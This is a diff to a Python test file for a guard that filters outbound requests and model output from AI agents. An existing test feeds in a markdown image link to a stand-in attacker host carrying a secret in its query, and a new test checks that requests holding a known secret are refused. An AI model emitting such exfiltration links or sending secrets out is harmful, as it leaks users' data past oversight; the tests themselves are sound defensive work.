@@ -181,3 +181,16 @@ def test_model_output_links_to_other_hosts_are_removed(tmp_path: Path, upstream:
         d = s.decide(ModelOutput("Here: ![x](https://evil.test/p.png?d=secret) done"))
     assert d.verdict == Verdict.CHANGES and d.rules() == ["egress.url_removed"]
     assert isinstance(d.action, ModelOutput) and d.action.text == f"Here: {MARKER} done"
+
+
+def test_live_secrets_known_to_the_secrets_room_are_refused(tmp_path: Path, upstream: Upstream) -> None:
+    wall = _wall(tmp_path, upstream.port)
+    value = "vault-value-9Qe2LmX7pZ"
+    wall.set_redactor(lambda t: t.replace(value, "[REDACTED]"))  # as the secrets room installs it
+    url = f"http://allowed.test:{upstream.port}/"
+    with wall.session(agent="a2", role="admin") as s:
+        d = s.decide(Egress("POST", url, {"X-Note": "hi"}, f"v={value}".encode()))
+        assert d.rules() == ["egress.secret_in_request"] and value not in str(d.findings)
+        d = s.decide(Egress("GET", url + "?q=" + value))
+        assert d.rules() == ["egress.secret_in_request"]
+        assert s.decide(Egress("POST", url, {}, b"v=harmless")).allowed
